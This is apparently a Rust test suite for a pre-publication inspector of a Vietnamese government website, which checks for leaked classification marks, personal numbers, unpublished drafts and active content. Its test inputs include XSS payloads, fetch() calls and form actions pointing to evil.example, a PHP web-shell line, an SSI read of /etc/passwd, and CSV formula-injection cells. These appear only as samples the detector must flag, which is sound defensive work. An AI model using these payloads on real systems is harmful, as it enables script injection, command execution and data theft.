//! Output that must be stopped, whatever made it.

use super::capitals::{begins_in_capitals, ends_in_a_bracket, goes_on_as_words, is_spaced_out};
use super::text::{AT_ONCE, pieces};
use super::*;
use crate::trust::letters::{Sign, Squeezed, sign};
use crate::trust::{personal, stamp};
use proptest::prelude::*;

fn allowed() -> Allowed {
    Allowed {
        base_url: "https://x.vn/cb/".into(),
        base_path: "/cb".into(),
        hosts: vec!["baogialai.com.vn".into(), "*.gov.vn".into()],
        any_host: false,
        in_part: false,
        cleared: ["0905000111".to_owned(), "duthaolan2".to_owned()].into(),
        redirects: [OutputPath::new("cu/index.html")].into(),
        sources: [("trang/a".to_owned(), SourcePath::new("content/trang/a.md"))].into(),
    }
}

fn unpublished() -> Unpublished {
    let text = "Nội dung của một bản nháp chưa được duyệt nên không được có ở bất cứ đâu trong trang xuất bản cả.";
    let title = "Kế hoạch chưa ai được biết năm 2026".to_owned();
    Unpublished::new([(SourcePath::new("content/ke-hoach/nhap.md"), title, Some("999/KH-UBND".into()), text.into())])
}

fn found_in(path: &str, text: &str) -> Vec<&'static str> {
    let inspection = Inspection::new(allowed(), unpublished());
    inspection.look(&OutputPath::new("index.html"), b"<p>x</p>");
    inspection.look(&OutputPath::new(path), text.as_bytes());
    let mut codes: Vec<_> = inspection.finish(|_| {}).0.iter().map(|problem| problem.entry.code).collect();
    codes.dedup();
    codes
}

fn found(text: &str) -> Vec<&'static str> {
    found_in("trang/a/index.html", text)
}

#[test]
fn leaks_are_found_in_every_kind_of_file() {
    for (path, text) in [
        ("a/index.html", "<p>TUYỆT MẬT</p>"),
        ("a/index.html", "<td><b>M</b>Ậ<i>T</i></td>"),
        ("a/index.html", "<h1>KẾ HOẠCH (DỰ THẢO)</h1>"),
        ("a/index.html", "<p>Độ mật</p><p>DỰ THẢO</p>"),
        ("a/index.html", "<p>t ố i&nbsp; m ậ t</p>"),
        ("a/index.html", "<p><span>m</span><span>ậ</span><span>t</span></p>"),
        ("a/index.html", "<p>l.ư.u h.à.n.h n.ộ.i b.ộ</p>"),
        ("feeds/a.rss", "<title>LƯU HÀNH NỘI BỘ</title>"),
        ("a/data.json", "{\"x\":\"TỐI MẬT\"}"),
        ("tep/a.csv", "a;b\n1;TỐI MẬT\n"),
        ("tep/a.json", "{\"a\": \"T\\u1ED0I M\\u1EACT\"}"),
        ("tep/a.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\nTỐI MẬT\n"),
    ] {
        assert_eq!(found_in(path, text), ["CB0650"], "{text}");
    }
    for (path, text) in [
        ("a/index.html", "<td>Nguyễn Văn A</td><td>064085001234</td>"),
        ("a/index.html", "<a href=\"tel:0905123456\">gọi</a>"),
        ("a/data.json", "{\"phone\":\"0905 123 456\"}"),
        ("feeds/a.atom", "<summary>CCCD 064.085.001.234</summary>"),
        ("tep/a.csv", "Nguyễn Văn A;0905123456\n"),
        ("tat-ca.ics", "DESCRIPTION:anh A +84 905 123 456"),
        ("a/index.html", "<p>nva.1985@gmail.com</p>"),
        ("a/index.html", "<p>anh A 09<code>05123456</code></p>"),
        ("tep/a.json", "{\"a\": \"anh A \\u0030905123456\"}"),
        ("tep/a.ics", "DESCRIPTION:anh A 0905\r\n 123456\r\n"),
        ("tep/a.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\nanh A 0905123456\n"),
        ("tep/a.svg", "<svg><text>anh A <tspan>0905</tspan><tspan>123</tspan><tspan>456</tspan></text></svg>"),
    ] {
        assert_eq!(found_in(path, text), ["CB0651"], "{text}");
    }
    for text in [
        "<li>Kế hoạch chưa ai được biết năm 2026</li>",
        "<li>Số 999/KH-UBND</li>",
        "<p>Nội dung của một bản nháp chưa được duyệt nên không được có ở bất cứ đâu trong trang xuất bản cả.</p>",
    ] {
        assert_eq!(found(text), ["CB0652"], "{text}");
    }
    assert_eq!(found("<p>m\u{fffd}t</p>"), ["CB0654"]);
}

#[test]
fn a_long_calendar_is_read_to_its_end_and_across_its_cuts() {
    let event = |words: &str| format!("BEGIN:VEVENT\r\nDESCRIPTION:{words}\r\nEND:VEVENT\r\n");
    let plain = event("Báo cáo Ủy ban nhân dân tỉnh");
    let many = AT_ONCE * 2 / plain.len();
    for at in [0, many / 2 - 2, many / 2 - 1, many / 2, many / 2 + 1, many - 1] {
        let events: String = (0..many).map(|n| if n == at { event("anh A 0905\r\n 123456") } else { plain.clone() }).collect();
        let calendar = format!("BEGIN:VCALENDAR\r\n{events}END:VCALENDAR\r\n");
        assert!(pieces(&calendar, "ics").count() > 1);
        assert_eq!(pieces(&calendar, "ics").collect::<String>(), calendar);
        assert_eq!(found_in("lich/tat-ca.ics", &calendar), ["CB0651"], "{at} of {many}");
    }
}

#[test]
fn what_a_camera_wrote_into_a_picture_does_not_go_out() {
    for mark in ["Exif\0\0", "http://ns.adobe.com/xap/1.0/", "Photoshop 3.0"] {
        assert_eq!(found_in("tep/trang/a.jpg", &format!("...{mark}...")), ["CB0657"], "{mark}");
    }
    assert_eq!(found_in("tep/trang/a.jpg", "..."), [""; 0]);
}

#[test]
fn nothing_active_goes_out() {
    for text in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<script src=\"https://baogialai.com.vn/x.js\"></script>",
        "<img src=\"/cb/\" onerror=\"x()\">",
        "<svg/onload=x()>",
        "<p ONCLICK = 'x'>a</p>",
        "<iframe src=\"/cb/\"></iframe>",
        "<object data=\"/cb/\"></object>",
        "<a href=\"javascript:x\">a</a>",
        "<a href=\"java&#9;script:x\">a</a>",
        "<a href=\" &#1;javascript:x\">a</a>",
        "<a href=\"data:text/html,x\">a</a>",
        "<a href=\"//evil.example/\">a</a>",
        "<a href=\"https://gov.vn@evil.example/\">a</a>",
        "<img src=\"https://baogialai.com.vn/a.png\">",
        "<link rel=\"stylesheet\" href=\"https://baogialai.com.vn/a.css\">",
        "<meta http-equiv=\"refresh\" content=\"0; url=/cb/\">",
        "<form action=\"https://evil.example/\"></form>",
        "<base href=\"/cb/\">",
        "<style>a{}</style>",
        "<p>x</p><?php system($_GET[0]); ?>",
        "<p><%= Request(\"x\") %></p>",
        "<!--#include virtual=\"/etc/passwd\" -->",
        "<svg><foreignObject></foreignObject></svg>",
        "<textarea><a title=\"</textarea><img src=x onerror=x()>\"></a></textarea>",
        "<title><!-- </title><svg> --></title>",
        "<p style=\"position:fixed\">x</p>",
        "<svg><a xl:href=\"javascript:x\"><text>x</text></a></svg>",
        "<link rel=\"preload\" as=\"image\" imagesrcset=\"https://evil.example/a.png 1x\">",
    ] {
        assert_eq!(found(text), ["CB0653"], "{text}");
    }
    for cell in ["=HYPERLINK(\"http://evil.example\")", "\"=1+1\"", "@SUM(1)", "+cmd|' /C calc'!A0"] {
        assert_eq!(found_in("tep/a.csv", &format!("ten;gia_tri\nA;{cell}\n")), ["CB0653"], "{cell}");
    }
    assert_eq!(found("<a href=\"https://evil.example/\">a</a>"), ["CB0658"]);
    for script in ["location = 'https://evil.example/'", "open(\"//evil.example/a\")", "fetch(`http://evil.example`)"] {
        assert_eq!(found_in("assets/a.0123456789.js", script), ["CB0658"], "{script}");
    }
    assert_eq!(found("<a href=\"https://gov.vn.evil.example/\">a</a>"), ["CB0658"]);
}

#[test]
fn addresses_within_the_site_lead_somewhere() {
    for text in [
        "<a href=\"/cb/khong-co/\">a</a>",
        "<a href=\"/ngoai/\">a</a>",
        "<img src=\"mat.png\">",
        "<a href=\"https://x.vn/cb/khong-co/\">a</a>",
    ] {
        assert_eq!(found(text), ["CB0655"], "{text}");
    }
}

#[test]
fn what_is_ordinary_goes_out() {
    for text in [
        "<!doctype html><p>Bảo vệ bí mật nhà nước, <b>MẶT TRẬN</b></p><th>Mật độ</th><td>Dự thảo</td><p>ỦY BAN NHÂN DÂN</p>",
        "<a href=\"/cb/\">a</a><a href=\"#x\">b</a><a href=\"?q=1\">c</a><a href=\"../../\">d</a><a href=\"https://x.vn/cb/\">e</a>",
        "<a href=\"https://baogialai.com.vn/tin-20240315081234567-post562492.html\">a</a><a href=\"https://www.gialai.gov.vn/x\">b</a>",
        "<script type=\"application/ld+json\">{\"a\":\"</x\"}</script>",
        "<p>Đường dây nóng: 0905000111</p><p>(DỰ THẢO LẦN 2)</p><p>123.456.789.012 đồng; 03.05.2024 - 07.05.2024</p>",
        "<a href=\"mailto:vanphong@gialai.gov.vn\">vanphong@gialai.gov.vn</a>",
        "<svg viewBox=\"0 0 1200 300\"><path d=\"M0 12 34 56 78 90 12 34 56L12 0912 345 678 900\"/></svg>",
    ] {
        assert_eq!(found(text), [""; 0], "{text}");
    }
    for (path, text) in [
        ("tep/a.csv", "ten;thay_doi\nA;-1,5\nB;+3\nC;- (chưa có)\nD;=\n"),
        ("assets/a.0123456789.js", "// https:x\nlet a = 'http://www.w3.org/2000/svg', b = 'https://x.vn/cb/', c = '//'"),
        ("assets/a.0123456789.css", "a{background:url(img/a.png)}"),
    ] {
        assert_eq!(found_in(path, text), [""; 0], "{text}");
    }
    assert_eq!(found_in("cu/index.html", "<meta http-equiv=\"refresh\" content=\"0; url=/cb/\">"), [""; 0]);
}

#[test]
fn names_of_files_that_nobody_meant_are_stopped() {
    for path in [
        "tep/.htaccess",
        "tep/_a.csv",
        "a/x.bak",
        "tep/web.config",
        "tep/x.php",
        "tep/x~",
        "tep/anh/KH-MẬT.csv",
        "tep/du-thao-ke-hoach.csv",
        "assets/img/a.xhtml",
        "assets/img/a.phtml",
        "assets/img/a.swf",
    ] {
        assert_eq!(found_in(path, "x"), ["CB0656"], "{path}");
    }
}

#[test]
fn words_that_a_published_text_says_may_be_anywhere() {
    let inspection = Inspection::new(allowed(), unpublished());
    inspection.look(&OutputPath::new("index.html"), "<p>Số 999/KH-UBND</p>".as_bytes());
    let (problems, named) = inspection.finish(|hear| hear("Căn cứ Kế hoạch số 999/KH-UBND"));
    assert_eq!((problems, named.len()), (Vec::new(), 1));
}

#[test]
fn a_find_names_the_file_and_its_source() {
    let inspection = Inspection::new(allowed(), unpublished());
    inspection.look(&OutputPath::new("trang/a/index.html"), "<p>TỐI MẬT</p>".as_bytes());
    let (problems, _) = inspection.finish(|_| {});
    assert_eq!(problems[0].path.as_ref().map(SourcePath::as_str), Some("content/trang/a.md"));
    assert!(problems[0].message(crate::diagnostics::Language::Vi).contains("trang/a/index.html"));
}

#[test]
fn no_code_of_a_page_reads_like_a_number_of_a_person() {
    let odd =
        ["0905123456abcdef", "abcdef0905123456", "0905123456780905", "064085001234abcd", "ab064085001234cd", "9704220512345678"];
    let codes = (0..50_000_u32).map(|number| crate::hash::Digest::of(&number.to_le_bytes()).code());
    let page = |code: &str| {
        format!("Cổng A, 2024</p><p>Mã kiểm tra <code>{code}</code>: 16 chữ số</p><p>Mã kiểm tra: {code} (SHA-256)</p>")
    };
    let read: Vec<String> =
        odd.into_iter().map(str::to_string).chain(codes).filter(|code| !personal::find_numbers(&page(code)).is_empty()).collect();
    assert_eq!(read, Vec::<String>::new());
}

#[test]
fn where_only_some_files_are_made_a_link_may_lead_to_another() {
    let codes = |in_part| {
        let inspection = Inspection::new(Allowed { in_part, ..allowed() }, Unpublished::default());
        inspection.look(&OutputPath::new("a/index.html"), b"<a href=\"/cb/b/\" onclick=\"x()\">b</a>");
        inspection.finish(|_| {}).0.iter().map(|problem| problem.entry.code).collect::<Vec<_>>()
    };
    assert_eq!(codes(false), ["CB0653", "CB0655"]);
    assert_eq!(codes(true), ["CB0653"]);
}

/// What [`begins_in_capitals`] and [`ends_in_a_bracket`] say of a text, a letter at a time.
fn looks_like_a_stamp(raw: &str) -> bool {
    let (mut capitals, mut inside) = (0, false);
    for c in raw.chars() {
        match c {
            '<' => inside = true,
            '>' => inside = false,
            _ if inside => {}
            c => match sign(c) {
                Sign::Letter(_, _, true) if capitals == 1 => return true,
                Sign::Letter(_, _, true) => capitals = 1,
                Sign::Letter(..) => break,
                Sign::Other if c.is_alphabetic() => break,
                _ => {}
            },
        }
    }
    let inner = raw.trim_end().strip_suffix([')', ']']);
    inner.and_then(|inner| inner.chars().next_back()).is_some_and(char::is_uppercase)
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn quick_looks_see_what_slow_ones_see(
        raw in "(<b>|</b|[MẬTĐЯ年]|[a-zậ]|[0-9 \n\u{a0}.&;<>()\\[\\]\u{200b}\u{323}М０]){0,8}",
        words in "[ (]?(T?MẬT|m[ậa\u{323}]t|DỰ TH[ẢA0]O|KH|khẩn|Độ mật: |[A-Za-z]{1,3}|[0-9.\\- \u{200b}年]){0,4}[)]?",
    ) {
        prop_assert_eq!(begins_in_capitals(&raw) || ends_in_a_bracket(&raw), looks_like_a_stamp(&raw), "{:?}", raw);
        prop_assert!(!goes_on_as_words(&raw) || !begins_in_capitals(&raw) && !is_spaced_out(&raw), "{:?}", raw);
        let whole = Squeezed::new(&words, stamp::LONGEST).as_ref().and_then(stamp::whole);
        // What was typed or set in an old font is known to the quick look only.
        prop_assert!(whole.is_none() || stamp::of(&words) == whole, "{:?}", words);
    }
}
